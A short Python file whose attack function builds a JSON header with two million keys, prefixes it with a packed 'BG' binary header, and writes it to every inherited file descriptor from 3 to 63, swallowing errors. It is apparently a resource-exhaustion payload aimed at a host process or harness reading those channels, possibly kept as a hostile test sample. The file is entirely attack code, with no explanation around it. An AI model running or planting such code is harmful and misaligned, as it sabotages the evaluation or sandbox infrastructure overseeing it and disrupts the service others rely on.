"""Send a header of very many different keys."""
import os
import struct


def attack(x):
    text = ("{" + ",".join(f'"{number:x}":0' for number in range(2000000)) + "}").encode()
    for descriptor in range(3, 64):
        try:
            view = memoryview(struct.pack("<2sBBIQ", b"BG", 1, 19, len(text), 0) + text)
            while view:
                view = view[os.write(descriptor, view) :]
        except OSError:
            pass
